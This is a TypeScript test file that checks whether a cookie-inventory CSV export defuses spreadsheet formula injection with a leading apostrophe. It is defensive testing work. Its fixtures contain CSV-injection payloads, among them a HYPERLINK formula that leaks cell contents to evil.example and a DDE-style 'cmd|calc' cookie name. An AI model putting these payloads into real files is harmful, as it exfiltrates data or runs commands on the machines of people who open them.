/**
 * The per-language CSV cannot act in a spreadsheet: every text that starts like a formula (= + -
 * @, a tab or a carriage return) is written with a leading apostrophe, as OWASP's "CSV Injection"
 * page recommends, whichever file it came from. The hostile inventory passes the content check
 * (a provider name and a purpose are free text, a cookie name may start with + or -), so only the
 * export stands between it and a spreadsheet. The CSV is read as the text a spreadsheet opens.
 */
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { checkInventory } from '../../../src/content-check/data.ts';
import { csvCell, inventoryCsv } from '../../../src/data/exports.ts';
import { useTranslations } from '../../../src/i18n/ui.ts';

const texts = (en: string) =>
  `{ fr: ${JSON.stringify(en)}, en: ${JSON.stringify(en)}, nl: ${JSON.stringify(en)}, de: ${JSON.stringify(en)} }`;

const providers = `
- id: evil
  name: '=HYPERLINK("https://evil.example/?leak="&A1,"Opendatasoft")'
  role: processor
  website: https://evil.example
  privacyPolicy: https://evil.example/privacy
`;

const cookies = `
- name: +1+cmd|'calc'!A0
  provider: evil
  category: necessary
  party: first
  storage: http-cookie
  lifetime: P2W
  service: ${texts('@SUM(1+1)*cmd')}
  purpose: ${texts('-2+3')}
  source:
    - url: https://evil.example/docs
      note: The documentation says so.
- name: "-x"
  provider: evil
  category: necessary
  party: first
  storage: local-storage
  lifetime: until-cleared
  service: ${texts('Plain service')}
  purpose: ${texts('Keeps = in the middle, which is no formula.')}
  source:
    - url: https://evil.example/docs
      note: The documentation says so.
`;

const inventory = checkInventory(
  { path: 'content/cookies.yaml', text: cookies },
  { path: 'content/providers.yaml', text: providers },
);

it('accepts the hostile inventory, so the export is what must hold', () => {
  expect(inventory.problems).toEqual([]);
});

it('writes each formula-like cell with a leading apostrophe, in the text a spreadsheet opens', () => {
  const csv = inventoryCsv(inventory.cookies, inventory.providers, 'en', useTranslations('en'));
  const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
  expect(lines[1]!.split(';').slice(0, 4)).toEqual([
    `"'+1+cmd|'calc'!A0"`,
    `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Opendatasoft"")"`,
    `"'@SUM(1+1)*cmd"`,
    `"'-2+3"`,
  ]);
  expect(lines[2]!.split(';').slice(0, 4)).toEqual([
    `"'-x"`,
    `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Opendatasoft"")"`,
    '"Plain service"',
    '"Keeps = in the middle, which is no formula."',
  ]);
  // No cell of the file, read by a CSV parser as a spreadsheet reads it, starts a formula.
  const cells = (parse(csv, { bom: true, delimiter: ';' }) as string[][]).flat();
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});

it('neutralises a leading tab and carriage return too, and leaves other cells as they are', () => {
  expect(['\t=1+1', '\r=1+1', 'P2W', '', "'quoted"].map(csvCell)).toEqual([
    `"'\t=1+1"`,
    `"'\r=1+1"`,
    '"P2W"',
    '""',
    `"'quoted"`,
  ]);
});
